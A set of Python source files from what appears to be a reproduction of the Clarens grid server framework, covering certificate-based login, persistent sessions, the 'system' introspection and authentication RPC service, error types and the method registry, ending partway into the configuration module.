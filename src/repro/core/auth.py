"""Certificate-based authentication.

Clarens establishes the client's identity from its X.509 certificate, either
presented over the SSL connection (where Apache/mod_ssl verified it and
exported the DN) or through an explicit challenge–response exchange for
unencrypted deployments such as the paper's performance test.  Either path
ends with a persistent server-side session whose id the client attaches to
subsequent requests.

The :class:`Authenticator` supports three login flows:

* **TLS client certificate** -- the transport already verified the chain;
  ``login_tls`` just needs the DN.
* **Challenge–response** -- the client asks for a nonce, signs it with its
  private key, and submits the signature together with its certificate chain;
  the server verifies the chain against its trust store and the signature
  against the certificate's public key.
* **Proxy certificate** -- a (possibly delegated) proxy chain is verified
  with the proxy rules; the session is created for the *owner* DN.
"""

from __future__ import annotations

import secrets
import threading
import time
from dataclasses import dataclass
from typing import Mapping, Sequence

from repro.core.errors import AuthenticationError
from repro.core.session import Session, SessionManager
from repro.pki.certificate import Certificate, TrustStore, VerificationError, verify_chain
from repro.pki.proxy import ChainVerificationCache, ProxyCertificate, verify_proxy_chain

__all__ = ["Authenticator", "Challenge"]

_CHALLENGE_LIFETIME = 300.0  # five minutes


@dataclass
class Challenge:
    """An outstanding authentication challenge."""

    dn: str
    nonce: str
    issued: float

    def is_expired(self, when: float | None = None) -> bool:
        when = time.time() if when is None else when
        return when - self.issued > _CHALLENGE_LIFETIME


class Authenticator:
    """Verifies credentials and turns them into sessions."""

    def __init__(self, sessions: SessionManager, trust_store: TrustStore, *,
                 revoked_serials: Mapping | None = None,
                 chain_cache: ChainVerificationCache | None = None) -> None:
        self.sessions = sessions
        self.trust_store = trust_store
        self.revoked_serials = dict(revoked_serials or {})
        #: Optional memoization of successful chain verifications (the RSA
        #: signature checks dominate login cost); None preserves paper mode.
        self.chain_cache = chain_cache
        self._challenges: dict[str, Challenge] = {}
        self._lock = threading.Lock()

    def _verify_chain(self, chain: Sequence[Certificate]) -> Certificate:
        if self.chain_cache is not None:
            # Pass the authenticator's own (current) revocation mapping so a
            # cache constructed without one can never skip revocation checks.
            return self.chain_cache.verify_chain(
                chain, revoked_serials=self.revoked_serials)
        return verify_chain(list(chain), self.trust_store,
                            revoked_serials=self.revoked_serials)

    def _verify_proxy_chain(self, proxy: ProxyCertificate | Sequence[Certificate]):
        if self.chain_cache is not None:
            return self.chain_cache.verify_proxy_chain(
                proxy, revoked_serials=self.revoked_serials)
        return verify_proxy_chain(proxy, self.trust_store,
                                  revoked_serials=self.revoked_serials)

    # -- challenge/response ------------------------------------------------------
    def issue_challenge(self, dn: str) -> str:
        """Create a nonce the client must sign to prove key possession."""

        if not dn:
            raise AuthenticationError("a DN is required to request a challenge")
        nonce = secrets.token_hex(24)
        with self._lock:
            # One outstanding challenge per DN; re-requesting replaces it.
            self._challenges[dn] = Challenge(dn=dn, nonce=nonce, issued=time.time())
            self._purge_expired_locked()
        return nonce

    def _purge_expired_locked(self) -> None:
        now = time.time()
        expired = [dn for dn, ch in self._challenges.items() if ch.is_expired(now)]
        for dn in expired:
            del self._challenges[dn]

    def login_with_signature(self, dn: str, signature: int,
                             chain: Sequence[Certificate]) -> Session:
        """Verify a signed challenge plus certificate chain; create a session."""

        with self._lock:
            challenge = self._challenges.get(dn)
        if challenge is None or challenge.is_expired():
            raise AuthenticationError("no valid challenge outstanding for this DN")
        if not chain:
            raise AuthenticationError("a certificate chain is required")

        try:
            if any(cert.is_proxy for cert in chain):
                owner = self._verify_proxy_chain(list(chain))
                authenticated_dn = str(owner)
                method = "proxy"
            else:
                end_entity = self._verify_chain(chain)
                authenticated_dn = str(end_entity.subject)
                method = "certificate"
        except VerificationError as exc:
            raise AuthenticationError(f"certificate verification failed: {exc}") from exc

        if authenticated_dn != dn:
            raise AuthenticationError(
                f"challenge was issued for {dn!r} but the chain authenticates {authenticated_dn!r}"
            )
        # The signature must be made by the *presented* certificate (the proxy
        # itself when logging in with a proxy), proving possession of its key.
        presented = chain[0]
        if not presented.public_key.verify(challenge.nonce.encode(), signature):
            raise AuthenticationError("challenge signature verification failed")

        with self._lock:
            self._challenges.pop(dn, None)
        return self.sessions.create(authenticated_dn, method=method)

    # -- TLS-verified logins --------------------------------------------------------
    def login_tls(self, client_dn: str | None) -> Session:
        """Create a session for a DN already verified by the TLS layer."""

        if not client_dn:
            raise AuthenticationError("the connection did not present a client certificate")
        return self.sessions.create(client_dn, method="certificate")

    # -- proxy logins -----------------------------------------------------------------
    def login_with_proxy(self, proxy: ProxyCertificate | Sequence[Certificate]) -> Session:
        """Verify a proxy chain and create a session for its owner DN."""

        try:
            owner = self._verify_proxy_chain(proxy)
        except VerificationError as exc:
            raise AuthenticationError(f"proxy verification failed: {exc}") from exc
        return self.sessions.create(str(owner), method="proxy")

    # -- logout -------------------------------------------------------------------------
    def logout(self, session_id: str) -> bool:
        return self.sessions.destroy(session_id)

    def outstanding_challenges(self) -> int:
        with self._lock:
            self._purge_expired_locked()
            return len(self._challenges)
