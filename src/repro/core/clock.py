"""A controllable clock for tests: no real sleeping, explicit advancement.

``TransferEngine`` accepts ``clock=`` and ``PeerChannel`` accepts
``sleep=``; handing both to one :class:`FakeClock` lets backoff and TTL
tests assert the *schedule* (which delays were requested, in what order)
instead of sleeping real wall time.
"""

from __future__ import annotations

import threading

__all__ = ["FakeClock"]


class FakeClock:
    """Manual monotonic clock.

    Calling the instance (or ``.monotonic()`` / ``.time()``) returns the
    current fake time.  ``sleep(s)`` records the requested delay in
    :attr:`sleeps` and advances the clock by it immediately — callers
    never block.  ``advance(s)`` moves time forward without recording a
    sleep, for TTL/deadline expiry.
    """

    def __init__(self, start: float = 1000.0) -> None:
        self._lock = threading.Lock()
        self._now = float(start)
        #: every delay passed to :meth:`sleep`, in call order
        self.sleeps: list[float] = []

    def __call__(self) -> float:
        return self.monotonic()

    def monotonic(self) -> float:
        with self._lock:
            return self._now

    time = monotonic

    def sleep(self, seconds: float) -> None:
        with self._lock:
            self.sleeps.append(seconds)
            self._now += max(0.0, float(seconds))

    def advance(self, seconds: float) -> None:
        if seconds < 0:
            raise ValueError("cannot advance a monotonic clock backwards")
        with self._lock:
            self._now += float(seconds)
