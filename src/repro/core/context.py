"""Per-call context handed to service methods.

Every registered method that declares a ``ctx`` first parameter receives a
:class:`CallContext` describing the authenticated caller, the session, and a
reference to the server so services can reach shared managers (VO, ACL,
discovery, ...) without global state.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from repro.core.errors import AuthenticationError
from repro.core.session import Session

if TYPE_CHECKING:  # pragma: no cover - import cycle guard for type checkers
    from repro.core.server import ClarensServer
    from repro.httpd.message import HTTPRequest
    from repro.telemetry.trace import TraceContext

__all__ = ["CallContext"]


@dataclass
class CallContext:
    """Context for one RPC invocation."""

    server: "ClarensServer"
    method: str
    #: The authenticated DN (from the session or the TLS client certificate),
    #: or None for anonymous calls to methods that allow them.
    dn: str | None = None
    session: Session | None = None
    request: "HTTPRequest | None" = None
    protocol: str = "xml-rpc"
    #: Request id stamped by the pipeline's trace stage (0 = untraced entry).
    trace_id: int = 0
    #: The distributed trace context on telemetry-enabled servers (None in
    #: paper mode).  Also installed as the ambient trace around the method
    #: invocation, so outbound clients pick it up automatically.
    trace: "TraceContext | None" = None

    @property
    def authenticated(self) -> bool:
        return self.dn is not None

    def require_dn(self) -> str:
        """The caller DN, raising AuthenticationError for anonymous calls."""

        if self.dn is None:
            raise AuthenticationError(f"method {self.method} requires authentication")
        return self.dn

    def session_attribute(self, key: str, default: Any = None) -> Any:
        if self.session is None:
            return default
        return self.session.attributes.get(key, default)

    def set_session_attribute(self, key: str, value: Any) -> None:
        """Persist a per-session attribute (e.g. the shell sandbox path)."""

        if self.session is None:
            raise AuthenticationError("no session to attach attributes to")
        self.server.sessions.set_attribute(self.session.session_id, key, value)
        self.session.attributes[key] = value
