"""The ``system`` service.

Every Clarens server publishes a ``system`` module with introspection and
authentication methods.  ``system.list_methods`` is the method the paper's
performance test calls one thousand times per batch; the other methods cover
login (challenge/response, TLS, proxy), logout, session renewal and server
information used by the discovery service and the portal.
"""

from __future__ import annotations

import time
from typing import Any, Sequence

from repro.core.context import CallContext
from repro.core.errors import AuthenticationError, NotFoundError
from repro.core.service import ClarensService, rpc_method
from repro.pki.certificate import Certificate

__all__ = ["SystemService"]


def _decode_chain(chain_data: Sequence[dict]) -> list[Certificate]:
    return [Certificate.from_dict(item) for item in chain_data]


class SystemService(ClarensService):
    """Introspection, authentication and housekeeping methods."""

    service_name = "system"

    # -- introspection -------------------------------------------------------------
    @rpc_method(anonymous=True)
    def list_methods(self) -> list[str]:
        """Return the names of every method published by this server."""

        return self.server.registry.list_methods()

    @rpc_method(anonymous=True)
    def method_signature(self, name: str) -> str:
        """Return the signature string of a published method."""

        return self.server.registry.method_signature(name)

    @rpc_method(anonymous=True)
    def method_help(self, name: str) -> str:
        """Return the documentation string of a published method."""

        return self.server.registry.method_help(name)

    @rpc_method(anonymous=True)
    def list_services(self) -> list[str]:
        """Return the module names (services) hosted by this server."""

        return self.server.registry.modules()

    @rpc_method(anonymous=True)
    def describe_methods(self) -> list[dict[str, Any]]:
        """Return metadata (name, signature, help) for every method."""

        return self.server.registry.describe()

    @rpc_method(anonymous=True)
    def server_info(self) -> dict[str, Any]:
        """Return server identity and capability information."""

        config = self.server.config
        return {
            "server_name": config.server_name,
            "host_dn": config.host_dn or "",
            "url_prefix": config.url_prefix,
            "protocols": list(config.protocols()),
            "services": self.server.registry.modules(),
            "version": "1.0.0",
            "time": time.time(),
        }

    @rpc_method(anonymous=True)
    def ping(self) -> str:
        """Liveness probe; returns the constant string ``pong``."""

        return "pong"

    @rpc_method(anonymous=True)
    def echo(self, value: Any = "") -> Any:
        """Return the argument unchanged (round-trip / serialization test)."""

        return value

    @rpc_method(anonymous=True)
    def multicall(self, ctx: CallContext, calls: list) -> list:
        """Execute a batch of calls in one request (XML-RPC multicall).

        ``calls`` is an array of ``{"methodName": str, "params": array}``
        structs.  The batch is decoded and authenticated once, and the
        method-ACL check runs once per distinct method; under admission
        control a batch of N entries is charged N tokens, so batching
        amortizes parsing but never the rate limit.  Each result slot is
        ``[value]`` on success or a ``{"faultCode", "faultString"}`` struct
        on failure, so one bad entry never aborts the batch.
        """

        return self.server.pipeline.run_multicall(ctx, calls)

    # -- authentication -------------------------------------------------------------
    @rpc_method(anonymous=True)
    def get_challenge(self, dn: str) -> str:
        """Issue an authentication challenge (nonce) for ``dn``."""

        return self.server.authenticator.issue_challenge(dn)

    @rpc_method(anonymous=True)
    def auth(self, dn: str, signature_hex: str, chain: list[dict]) -> dict[str, Any]:
        """Authenticate with a signed challenge and certificate chain.

        ``signature_hex`` is the hexadecimal signature over the challenge
        nonce; ``chain`` is the certificate chain as dictionaries (end entity
        or proxy first).  Returns the new session descriptor.
        """

        try:
            signature = int(signature_hex, 16)
        except (TypeError, ValueError) as exc:
            raise AuthenticationError(f"malformed signature: {exc}") from exc
        certificates = _decode_chain(chain)
        session = self.server.authenticator.login_with_signature(dn, signature, certificates)
        return {"session_id": session.session_id, "dn": session.dn,
                "expires": session.expires, "method": session.method}

    @rpc_method(anonymous=True)
    def auth_tls(self, ctx: CallContext) -> dict[str, Any]:
        """Create a session from the TLS-verified client certificate."""

        client_dn = ctx.request.client_dn if ctx.request is not None else None
        session = self.server.authenticator.login_tls(client_dn)
        return {"session_id": session.session_id, "dn": session.dn,
                "expires": session.expires, "method": session.method}

    @rpc_method(anonymous=True)
    def auth_proxy(self, chain: list[dict]) -> dict[str, Any]:
        """Authenticate with a proxy certificate chain (delegation login)."""

        certificates = _decode_chain(chain)
        session = self.server.authenticator.login_with_proxy(certificates)
        return {"session_id": session.session_id, "dn": session.dn,
                "expires": session.expires, "method": session.method}

    @rpc_method()
    def whoami(self, ctx: CallContext) -> dict[str, Any]:
        """Return the authenticated identity of the caller."""

        return {
            "dn": ctx.dn or "",
            "authenticated": ctx.authenticated,
            "session_id": ctx.session.session_id if ctx.session else "",
            "groups": self.server.vo.groups_for(ctx.dn) if ctx.dn else [],
        }

    @rpc_method()
    def renew_session(self, ctx: CallContext) -> dict[str, Any]:
        """Extend the calling session's lifetime."""

        if ctx.session is None:
            raise AuthenticationError("no session to renew")
        session = self.server.sessions.renew(ctx.session.session_id)
        return {"session_id": session.session_id, "expires": session.expires}

    @rpc_method()
    def logout(self, ctx: CallContext) -> bool:
        """Destroy the calling session."""

        if ctx.session is None:
            raise AuthenticationError("no session to log out of")
        return self.server.authenticator.logout(ctx.session.session_id)

    # -- housekeeping ------------------------------------------------------------------
    @rpc_method()
    def session_count(self, ctx: CallContext) -> int:
        """Number of live sessions (administrators only)."""

        self.server.require_admin(ctx)
        return self.server.sessions.count()

    @rpc_method()
    def purge_sessions(self, ctx: CallContext) -> int:
        """Remove expired sessions; returns how many were purged (admins only)."""

        self.server.require_admin(ctx)
        return self.server.sessions.purge_expired()

    @rpc_method()
    def stats(self, ctx: CallContext) -> dict[str, Any]:
        """Dispatcher statistics (request counts, fault counts, latency).

        Under admission control the snapshot additionally carries an
        ``admission`` block with per-identity counters (admitted/throttled/
        fabric-shed per DN, top-K by throttle pressure) so operators can see
        exactly who fabric-wide shedding is targeting.
        """

        self.server.require_admin(ctx)
        snapshot = self.server.dispatcher.stats_snapshot()
        controller = getattr(self.server.pipeline, "admission", None)
        snapshot["admission"] = (controller.stats()
                                 if controller is not None else None)
        return snapshot

    @rpc_method()
    def trace(self, ctx: CallContext, trace_id: str = "",
              limit: int = 100) -> dict[str, Any]:
        """Spans recorded by this server's telemetry ring.

        With ``trace_id`` set, returns every retained span of that trace;
        otherwise the ``limit`` most recent spans.  Open to administrators
        and to registered fabric peers — peers call this during
        ``system.trace_tree`` fan-outs to contribute their half of a
        federation-wide trace.  Faults with NotFound when telemetry is
        disabled on this server.
        """

        self.server.require_admin_or_peer(ctx)
        telemetry = self.server.telemetry
        if telemetry is None:
            raise NotFoundError("telemetry is not enabled on this server")
        return {
            "server": self.server.config.server_name,
            "spans": telemetry.trace_records(trace_id=str(trace_id or ""),
                                             limit=int(limit)),
            "slow_requests": telemetry.slow_log.entries(),
            "stats": telemetry.stats(),
        }

    @rpc_method()
    def trace_tree(self, ctx: CallContext, trace_id: str,
                   timeout: float = 0.0) -> dict[str, Any]:
        """The assembled fabric-wide span tree for ``trace_id`` (admins only).

        Fans out ``system.trace`` to every registered peer in parallel,
        merges the spans with this server's own and returns one parent/child
        tree.  Unreachable peers mark the result ``partial`` (with a reason
        per peer) instead of failing the call.  ``timeout`` overrides the
        configured per-peer budget when positive.  Faults with NotFound when
        telemetry is disabled on this server.
        """

        self.server.require_admin(ctx)
        telemetry = self.server.telemetry
        if telemetry is None or telemetry.collector is None:
            raise NotFoundError("telemetry is not enabled on this server")
        budget = float(timeout) if float(timeout) > 0 else None
        return telemetry.collector.collect(str(trace_id), timeout=budget)

    @rpc_method()
    def health(self, ctx: CallContext) -> dict[str, Any]:
        """The composed health model: local probes, alerts, and fleet view.

        Any authenticated identity may ask — health is operational, not
        secret.  Faults with NotFound when telemetry is disabled on this
        server; the unauthenticated ``GET /healthz`` endpoint serves the
        local summary only.
        """

        ctx.require_dn()
        telemetry = self.server.telemetry
        if telemetry is None or telemetry.health is None:
            raise NotFoundError("telemetry is not enabled on this server")
        return telemetry.health.evaluate()

    @rpc_method()
    def metrics(self, ctx: CallContext) -> dict[str, Any]:
        """The metrics registry, as a structured snapshot plus the text
        exposition also served at ``GET /metrics`` (admins only).

        Faults with NotFound when telemetry is disabled on this server.
        """

        self.server.require_admin(ctx)
        telemetry = self.server.telemetry
        if telemetry is None:
            raise NotFoundError("telemetry is not enabled on this server")
        return {"metrics": telemetry.registry.collect(),
                "exposition": telemetry.registry.render()}

    @rpc_method()
    def cache_stats(self, ctx: CallContext) -> dict[str, Any]:
        """Hot-path cache statistics per named cache (admins only)."""

        self.server.require_admin(ctx)
        snapshot = self.server.caches.stats_snapshot()
        snapshot["enabled"] = self.server.config.cache_enabled
        snapshot["invalidations_published"] = self.server.invalidation.published
        return snapshot

    @rpc_method(anonymous=True)
    def get_time(self) -> float:
        """Server wall-clock time (seconds since the epoch)."""

        return time.time()

    @rpc_method(anonymous=True)
    def version(self) -> str:
        """Framework version string."""

        return "1.0.0"

    @rpc_method()
    def lookup_method(self, name: str) -> dict[str, Any]:
        """Full metadata for one method (raises NotFound for unknown names)."""

        for entry in self.server.registry.describe():
            if entry["name"] == name:
                return entry
        raise NotFoundError(f"no such method: {name}")
