"""Persistent server-side sessions.

The HTTP protocol is stateless, so "it is important that session information
is stored persistently on the server side.  This has the positive side-effect
of allowing clients to survive server failures or restarts transparently
without having to re-authenticate themselves" (paper, section 2).  Sessions
live in the ``sessions`` database table; when the database directory is
persistent, a new :class:`SessionManager` built over the same directory sees
every live session from before the restart.
"""

from __future__ import annotations

import secrets
import time
from dataclasses import dataclass, field
from typing import Any

from repro.cache.core import MISSING, NEGATIVE, TTLLRUCache
from repro.cache.invalidation import InvalidationBus
from repro.core.errors import SessionExpiredError
from repro.database import Database

__all__ = ["Session", "SessionManager"]


@dataclass
class Session:
    """One authenticated session."""

    session_id: str
    dn: str
    created: float
    expires: float
    last_used: float
    #: How the session was established: "certificate", "proxy", or "challenge".
    method: str = "certificate"
    #: Free-form per-session attributes (used by the proxy and shell services).
    attributes: dict[str, Any] = field(default_factory=dict)

    def is_expired(self, when: float | None = None) -> bool:
        when = time.time() if when is None else when
        return when > self.expires

    def to_record(self) -> dict:
        return {
            "session_id": self.session_id,
            "dn": self.dn,
            "created": self.created,
            "expires": self.expires,
            "last_used": self.last_used,
            "method": self.method,
            "attributes": dict(self.attributes),
        }

    @classmethod
    def from_record(cls, record: dict) -> "Session":
        return cls(
            session_id=record["session_id"],
            dn=record["dn"],
            created=float(record["created"]),
            expires=float(record["expires"]),
            last_used=float(record["last_used"]),
            method=record.get("method", "certificate"),
            attributes=dict(record.get("attributes", {})),
        )


class SessionManager:
    """Creates, validates and expires sessions, backed by the database."""

    def __init__(self, database: Database, *, lifetime: float = 24 * 3600.0,
                 touch_on_validate: bool = False,
                 cache: TTLLRUCache | None = None,
                 invalidation: InvalidationBus | None = None) -> None:
        self._db = database
        self._table = database.table("sessions")
        self._table.create_index("dn")
        self.lifetime = float(lifetime)
        #: Updating last_used on every validation doubles the DB writes on the
        #: hot path; the paper's server did not, so it is off by default.
        self.touch_on_validate = touch_on_validate
        #: Optional validate-path cache (the paper mode runs without one).
        self._cache = cache
        self._invalidation = invalidation
        if cache is not None and invalidation is not None:
            invalidation.subscribe("session", cache)

    def _publish_invalidation(self, session_id: str) -> None:
        """Flush cached state for one session after any write."""

        if self._invalidation is not None:
            self._invalidation.publish(f"session:{session_id}")
        elif self._cache is not None:
            self._cache.invalidate(session_id)

    # -- creation ------------------------------------------------------------
    def create(self, dn: str, *, method: str = "certificate",
               attributes: dict[str, Any] | None = None,
               lifetime: float | None = None) -> Session:
        """Create and persist a new session for ``dn``."""

        now = time.time()
        session = Session(
            session_id=secrets.token_hex(16),
            dn=str(dn),
            created=now,
            expires=now + (lifetime if lifetime is not None else self.lifetime),
            last_used=now,
            method=method,
            attributes=dict(attributes or {}),
        )
        self._table.insert(session.session_id, session.to_record())
        # A negative entry can only exist if this exact id was probed before
        # creation; ids are 128-bit secrets, so skip the (epoch-bumping)
        # publish unless the cache actually holds one.
        if self._cache is not None and session.session_id in self._cache:
            self._publish_invalidation(session.session_id)
        return session

    # -- validation (the per-request hot path) --------------------------------
    def validate(self, session_id: str) -> Session:
        """Return the live session for ``session_id`` or raise SessionExpiredError.

        This is the first of the two per-request access-control checks the
        paper's performance test describes ("whether the client credentials
        are associated with a current session"): a database lookup per call.
        """

        if self._cache is not None:
            return self._validate_cached(session_id)
        session = self._load_live(session_id)
        if session is None:
            raise SessionExpiredError("unknown session id")
        self._touch_if_configured(session)
        return session

    def _load_live(self, session_id: str) -> Session | None:
        """Load from the database (the uncached check): the live session,
        None for an unknown id, or SessionExpiredError for an expired one
        (which is deleted on the way out)."""

        record = self._table.get(session_id, None)
        if record is None:
            return None
        session = Session.from_record(record)
        if session.is_expired(time.time()):
            self._table.delete(session_id)
            self._publish_invalidation(session_id)
            raise SessionExpiredError("session has expired")
        return session

    def _touch_if_configured(self, session: Session) -> None:
        if self.touch_on_validate:
            now = time.time()
            session.last_used = now
            self._table.update(session.session_id, {"last_used": now})

    def _validate_cached(self, session_id: str) -> Session:
        """Serve validation from the cache, falling back to the database.

        The expiry deadline is re-checked on every hit, so a cached session
        can never outlive its ``expires`` timestamp; every write path
        publishes a ``session:<id>`` invalidation, so destroy/renew/attribute
        changes are visible immediately.  Cache fills are epoch-guarded: a
        destroy racing this read-through bumps the cache epoch, so the stale
        session is discarded instead of stored.
        """

        cached = self._cache.get(session_id)
        if cached is NEGATIVE:
            raise SessionExpiredError("unknown session id")
        if cached is not MISSING:
            session: Session = cached
            if session.is_expired(time.time()):
                self._table.delete(session_id)
                self._publish_invalidation(session_id)
                raise SessionExpiredError("session has expired")
            self._touch_if_configured(session)
            return session

        epoch = self._cache.epoch
        tag = (f"session:{session_id}",)
        session = self._load_live(session_id)
        if session is None:
            self._cache.put_if_epoch(session_id, NEGATIVE, epoch=epoch, tags=tag)
            raise SessionExpiredError("unknown session id")
        self._touch_if_configured(session)
        self._cache.put_if_epoch(session_id, session, epoch=epoch, tags=tag)
        return session

    def get(self, session_id: str) -> Session | None:
        record = self._table.get(session_id, None)
        return Session.from_record(record) if record is not None else None

    # -- maintenance -----------------------------------------------------------
    def touch(self, session_id: str) -> None:
        if session_id in self._table:
            self._table.update(session_id, {"last_used": time.time()})
            self._publish_invalidation(session_id)

    def set_attribute(self, session_id: str, key: str, value: Any) -> None:
        session = self.validate(session_id)
        session.attributes[key] = value
        self._table.update(session_id, {"attributes": session.attributes})
        self._publish_invalidation(session_id)

    def renew(self, session_id: str, *, lifetime: float | None = None) -> Session:
        session = self.validate(session_id)
        session.expires = time.time() + (lifetime if lifetime is not None else self.lifetime)
        self._table.update(session_id, {"expires": session.expires})
        self._publish_invalidation(session_id)
        return session

    def destroy(self, session_id: str) -> bool:
        destroyed = self._table.delete(session_id)
        if destroyed:
            self._publish_invalidation(session_id)
        return destroyed

    def destroy_for_dn(self, dn: str) -> int:
        """Destroy every session belonging to ``dn``; returns the count."""

        sessions = self._table.lookup("dn", str(dn))
        count = 0
        for record in sessions:
            if self._table.delete(record["session_id"]):
                self._publish_invalidation(record["session_id"])
                count += 1
        return count

    def sessions_for(self, dn: str) -> list[Session]:
        return [Session.from_record(r) for r in self._table.lookup("dn", str(dn))]

    def purge_expired(self) -> int:
        """Remove expired sessions; returns how many were removed."""

        now = time.time()
        removed = 0
        for key, record in self._table.items():
            if float(record.get("expires", 0)) < now:
                if self._table.delete(key):
                    self._publish_invalidation(key)
                    removed += 1
        return removed

    def count(self) -> int:
        return len(self._table)
