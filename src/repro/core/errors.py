"""Core error types.

Service code raises these; the dispatcher converts them to RPC faults with
the codes defined in :class:`repro.protocols.errors.FaultCode` so every
protocol reports failures consistently.
"""

from __future__ import annotations

from repro.protocols.errors import Fault, FaultCode

__all__ = [
    "ClarensError",
    "AuthenticationError",
    "AccessDeniedError",
    "SessionExpiredError",
    "NotFoundError",
    "RetryLaterError",
    "to_fault",
]


class ClarensError(Exception):
    """Base class for framework-level errors raised by services."""

    fault_code = FaultCode.SERVICE_ERROR


class AuthenticationError(ClarensError):
    """The caller is not authenticated (no session, bad credentials)."""

    fault_code = FaultCode.AUTHENTICATION_REQUIRED


class SessionExpiredError(AuthenticationError):
    """The presented session id is unknown or has expired."""

    fault_code = FaultCode.SESSION_EXPIRED


class AccessDeniedError(ClarensError):
    """The caller is authenticated but not authorized (ACL denial)."""

    fault_code = FaultCode.ACCESS_DENIED


class NotFoundError(ClarensError):
    """A named entity (file, job, service, group) does not exist."""

    fault_code = FaultCode.NOT_FOUND


class RetryLaterError(ClarensError):
    """The server is shedding load for this caller; retry after a backoff.

    Raised by the admission-control pipeline stage when a caller exceeds its
    per-identity rate limit or in-flight budget; maps to HTTP 429 on the
    plain RPC endpoint.
    """

    fault_code = FaultCode.RETRY_LATER

    def __init__(self, message: str, *, retry_after: float = 0.0) -> None:
        super().__init__(message)
        self.retry_after = retry_after


def to_fault(exc: BaseException) -> Fault:
    """Map an exception raised by a service method onto an RPC fault."""

    # Imported here to avoid dependency cycles: the ACL/VO packages do not
    # depend on core, but their authorization errors must surface as
    # access-denied faults rather than generic internal errors.
    from repro.acl.model import ACLError
    from repro.vo.model import VOError

    if isinstance(exc, Fault):
        return exc
    if isinstance(exc, ClarensError):
        return Fault(exc.fault_code, str(exc))
    if isinstance(exc, (ACLError, VOError)):
        return Fault(FaultCode.ACCESS_DENIED, f"{type(exc).__name__}: {exc}")
    if isinstance(exc, (TypeError, ValueError)):
        return Fault(FaultCode.INVALID_PARAMS, f"{type(exc).__name__}: {exc}")
    return Fault(FaultCode.INTERNAL_ERROR, f"{type(exc).__name__}: {exc}")
