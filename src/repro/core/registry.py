"""The method registry.

Every web-service method published by a Clarens server is registered here
under its hierarchical name (``module.method``).  The registry is mirrored
into a database table because the paper's performance test stresses exactly
that path: "each request incurring a database lookup for all registered
methods in the server, and serializing the resultant list of more than 30
strings as an array response" — ``system.list_methods`` reads the table, not
an in-memory dict, unless the configuration enables caching.
"""

from __future__ import annotations

import inspect
import threading
from dataclasses import dataclass, field
from typing import Any, Callable, Iterable

from repro.core.errors import NotFoundError
from repro.database import Database

__all__ = ["RegisteredMethod", "MethodRegistry"]


@dataclass(frozen=True)
class RegisteredMethod:
    """Metadata for one published method."""

    name: str
    func: Callable
    signature: str = ""
    help: str = ""
    #: Methods flagged anonymous may be called without a session (used for the
    #: system.* bootstrap calls such as get_challenge and auth).
    anonymous: bool = False
    service: str = ""

    @property
    def module(self) -> str:
        return self.name.split(".", 1)[0]


class MethodRegistry:
    """Registry of callable web-service methods."""

    def __init__(self, database: Database | None = None, *, cache_method_list: bool = False) -> None:
        self._methods: dict[str, RegisteredMethod] = {}
        self._lock = threading.Lock()
        self._table = database.table("methods") if database is not None else None
        self.cache_method_list = cache_method_list
        self._cached_names: list[str] | None = None

    # -- registration ----------------------------------------------------------
    def register(self, name: str, func: Callable, *, signature: str = "",
                 help: str = "", anonymous: bool = False, service: str = "") -> RegisteredMethod:
        """Register ``func`` under the hierarchical ``name``."""

        if not name or name.startswith(".") or name.endswith("."):
            raise ValueError(f"invalid method name {name!r}")
        if not signature:
            signature = _infer_signature(func)
        if not help:
            help = inspect.getdoc(func) or ""
        method = RegisteredMethod(name=name, func=func, signature=signature,
                                  help=help, anonymous=anonymous, service=service)
        with self._lock:
            self._methods[name] = method
            self._cached_names = None
        if self._table is not None:
            self._table.put(name, {
                "name": name,
                "signature": signature,
                "help": help,
                "anonymous": anonymous,
                "service": service,
            })
        return method

    def register_service_methods(self, methods: Iterable[RegisteredMethod]) -> None:
        for method in methods:
            self.register(method.name, method.func, signature=method.signature,
                          help=method.help, anonymous=method.anonymous,
                          service=method.service)

    def unregister(self, name: str) -> bool:
        with self._lock:
            removed = self._methods.pop(name, None)
            self._cached_names = None
        if self._table is not None:
            self._table.delete(name)
        return removed is not None

    # -- lookup ------------------------------------------------------------------
    def lookup(self, name: str) -> RegisteredMethod:
        with self._lock:
            method = self._methods.get(name)
        if method is None:
            raise NotFoundError(f"no such method: {name}")
        return method

    def __contains__(self, name: object) -> bool:
        with self._lock:
            return name in self._methods

    def __len__(self) -> int:
        with self._lock:
            return len(self._methods)

    def list_methods(self) -> list[str]:
        """The sorted method names, via the database unless caching is enabled.

        This is deliberately the expensive path the paper measured; with
        ``cache_method_list`` enabled (the ABL-ACL ablation) the database
        round-trip is skipped after the first call.
        """

        if self.cache_method_list and self._cached_names is not None:
            return list(self._cached_names)
        if self._table is not None:
            names = sorted(record["name"] for record in self._table.all())
        else:
            with self._lock:
                names = sorted(self._methods)
        if self.cache_method_list:
            self._cached_names = list(names)
        return names

    def methods_for_module(self, module: str) -> list[str]:
        return [n for n in self.list_methods() if n == module or n.startswith(module + ".")]

    def modules(self) -> list[str]:
        return sorted({name.split(".", 1)[0] for name in self.list_methods()})

    def method_signature(self, name: str) -> str:
        return self.lookup(name).signature

    def method_help(self, name: str) -> str:
        return self.lookup(name).help

    def describe(self) -> list[dict[str, Any]]:
        """Method metadata for the discovery service and the portal."""

        with self._lock:
            methods = list(self._methods.values())
        return [
            {"name": m.name, "signature": m.signature, "help": m.help,
             "anonymous": m.anonymous, "service": m.service}
            for m in sorted(methods, key=lambda m: m.name)
        ]


def _infer_signature(func: Callable) -> str:
    """Build a human-readable signature string from the Python signature."""

    try:
        sig = inspect.signature(func)
    except (TypeError, ValueError):
        return "(...)"
    params = [
        name for name, param in sig.parameters.items()
        if name not in ("self", "ctx", "context")
        and param.kind not in (inspect.Parameter.VAR_KEYWORD,)
    ]
    return "(" + ", ".join(params) + ")"
