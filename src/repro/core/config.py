"""Server configuration.

PClarens read its settings from the Apache/mod_python configuration plus a
Clarens-specific configuration file; the pieces the paper calls out are the
static list of ``admins`` DNs (section 2.1), the virtual server root
directories for file serving (section 2.3), and the shell user map location
(section 2.5).  :class:`ServerConfig` gathers those plus the knobs the
reproduction's benchmarks sweep (caching, session lifetime, ACL checks).

Configurations can be built directly, from a dict, or parsed from an INI file
so the examples can ship human-editable config files.
"""

from __future__ import annotations

import configparser
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Mapping, Sequence

__all__ = ["ServerConfig", "ConfigError"]


class ConfigError(Exception):
    """Raised when a configuration file or mapping is invalid."""


@dataclass
class ServerConfig:
    """Configuration for one Clarens server instance."""

    #: Human-readable server name; also used as the discovery service id.
    server_name: str = "clarens"
    #: The server's host DN (matched against its host certificate when set).
